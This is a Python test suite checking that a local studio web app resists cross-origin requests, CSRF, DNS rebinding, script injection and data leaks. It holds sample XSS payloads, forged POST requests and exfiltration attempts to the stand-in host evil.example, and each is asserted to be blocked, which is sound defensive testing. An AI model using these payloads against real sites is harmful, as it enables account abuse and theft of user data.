"""Pages of others in the browser that is let in get at nothing, and nothing of theirs runs."""

import http.server
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.chromium import chromium
from tests.studio_server import Served, served

FOREIGN = ("evil.example", "localhost")
"""Names of other pages: of another site, and of the same one by the cookies' reckoning."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium("--host-resolver-rules=MAP *.example 127.0.0.1") as found:
        yield found


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with served() as found:
        yield found


@pytest.fixture(scope="module")
def other() -> Iterator[int]:
    """Port of a page of somebody else's."""

    class Foreign(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>other</title><body></body>")

        def log_message(self, *_: Any) -> None:
            pass

    found = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    threading.Thread(target=found.serve_forever, daemon=True).start()
    yield found.server_port
    found.shutdown()
    found.server_close()


@pytest.fixture(scope="module")
def context(browser, server) -> Iterator[Any]:
    """Pages of a person who is let in; the first one is the studio's."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{server.origin}/?token={server.keys.token}")
    page.wait_for_url(f"{server.origin}/")
    page.wait_for_function("() => window.studio?.state?.current")
    yield context
    context.close()


@pytest.fixture(params=FOREIGN)
def foreign(context, other, request) -> Any:
    """Another page of that person's, of somebody else."""
    page = context.new_page()
    page.goto(f"http://{request.param}:{other}/")
    yield page
    page.close()


def test_the_token_is_gone_from_where_the_page_is(browser, server):
    page = browser.new_page()
    page.goto("about:blank")
    page.goto(f"{server.origin}/?token={server.keys.token}")
    page.wait_for_url(f"{server.origin}/")
    assert page.evaluate("() => document.cookie") == ""
    assert page.evaluate("() => document.referrer") in ("", f"{server.origin}/")
    page.go_back()
    assert server.keys.token not in page.evaluate("() => location.href")
    page.close()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_gets_no_websocket(foreign, server, name):
    outcome = foreign.evaluate(
        """(url) => new Promise((done) => {
            const socket = new WebSocket(url);
            socket.onopen = () => done("open");
            socket.onerror = () => done("refused");
            socket.onmessage = () => done("told");
        })""",
        f"ws://{name}:{server.port}/socket",
    )
    assert outcome == "refused"


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_changes_nothing(foreign, server, name):
    before = list(server.studio.uploads)
    outcomes = foreign.evaluate(
        """async (url) => {
            const tries = [
                {method: "POST", body: "RIFF"},
                {method: "POST", body: "RIFF", mode: "no-cors"},
                {method: "POST", body: "RIFF", mode: "no-cors", credentials: "include"},
                {method: "POST", body: "RIFF", credentials: "include", headers: {"X-A": "b"}},
            ];
            const found = [];
            for (const each of tries) {
                found.push(await fetch(url, each).then((a) => a.type, () => "refused"));
            }
            return found;
        }""",
        f"http://{name}:{server.port}/clip?name=a.wav",
    )
    assert set(outcomes) <= {"refused", "opaque"}
    foreign.evaluate(
        """(url) => {
            const form = document.createElement("form");
            Object.assign(form, {method: "POST", action: url, enctype: "text/plain"});
            document.body.append(form);
            form.submit();
        }""",
        f"http://{name}:{server.port}/mesh?name=a.stl",
    )
    foreign.wait_for_load_state()
    assert server.studio.uploads == before


def test_a_page_of_another_origin_shows_and_reads_nothing(foreign, server):
    outcomes = foreign.evaluate(
        """async (origin) => {
            const found = {};
            const load = (kind, name, path) => new Promise((done) => {
                const element = document.createElement(kind);
                element.onload = () => done("loaded");
                element.onerror = () => done("refused");
                element.setAttribute(name, origin + path);
                document.body.append(element);
                setTimeout(() => done("nothing"), 30000);
            });
            found.script = await load("script", "src", "/page/main.js");
            found.image = await load("img", "src", "/page/icon.svg");
            found.sound = await fetch(origin + "/clip/c1/sound", {credentials: "include"})
                .then(() => "read", () => "refused");
            await load("iframe", "src", "/");
            const frame = document.querySelector("iframe");
            try { found.frame = frame.contentDocument === null ? "opaque" : "read"; }
            catch { found.frame = "opaque"; }
            found.windows = frame.contentWindow.length;
            return found;
        }""",
        server.origin,
    )
    assert outcomes["script"] == outcomes["image"] == outcomes["sound"] == "refused"
    assert outcomes["frame"] == "opaque"
    frame = foreign.frames[1]
    assert "window.studio" not in frame.content() and "importmap" not in frame.content()


def test_a_name_that_is_pointed_at_this_machine_gets_nothing(context, server):
    """DNS rebinding: to the browser the page is of evil.example, cookies and all."""
    page = context.new_page()
    answer = page.goto(f"http://rebound.example:{server.port}/?token={server.keys.token}")
    assert answer.status == 403 and "Host" in page.content()
    assert not [each for each in context.cookies() if "example" in each["domain"]]
    page.close()


def test_scripts_that_come_into_the_page_do_not_run(context):
    page = context.pages[0]
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    ran = page.evaluate(
        """async () => {
            const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
            window.ran = [];
            await pause(0);  // what the test itself evaluates at once is spared by the policy
            const body = document.body;
            body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="ran.push(1)">');
            const script = document.createElement("script");
            script.textContent = "ran.push(2)";
            body.append(script);
            try { setTimeout("ran.push(3)", 0); } catch { /* refused at once */ }
            try { new Function("ran.push(4)")(); } catch { /* refused */ }
            const link = document.createElement("a");
            link.href = "javascript:ran.push(5)";
            body.append(link);
            link.click();
            const other = document.createElement("script");
            other.src = "http://evil.example/x.js";
            body.append(other);
            await pause(300);
            return window.ran;
        }"""
    )
    assert ran == []
    assert any("Content Security Policy" in each for each in told)


def test_nothing_leaves_the_page(context):
    page = context.pages[0]
    outcomes = page.evaluate(
        """async () => {
            const found = [];
            found.push(await fetch("http://evil.example/").then(() => "left", () => "kept"));
            found.push(await new Promise((done) => {
                document.addEventListener("securitypolicyviolation", () => done("kept"));
                new Image().src = "http://evil.example/?secret";
                setTimeout(() => done("left"), 30000);
            }));
            try { new WebSocket("ws://evil.example/"); found.push("left"); }
            catch { found.push("kept"); }
            return found;
        }"""
    )
    assert outcomes[:2] == ["kept", "kept"]


def test_markup_in_names_is_shown_as_text(context, server):
    page = context.pages[0]
    name = '<img src=x onerror="window.marked=1"></script><script>window.marked=2</script>'
    page.evaluate("(name) => window.studio.connection.call('add_target', {vertex: 3, name})", name)
    page.wait_for_function(
        "(name) => document.body.textContent.includes(name)"
        " || [...document.querySelectorAll('input')].some((each) => each.value === name)",
        arg=name,
    )
    assert page.evaluate("() => window.marked") is None
    assert page.locator("img[src=x]").count() == 0
    page.evaluate("(name) => window.studio.connection.call('remove_target', {target: name})", name)
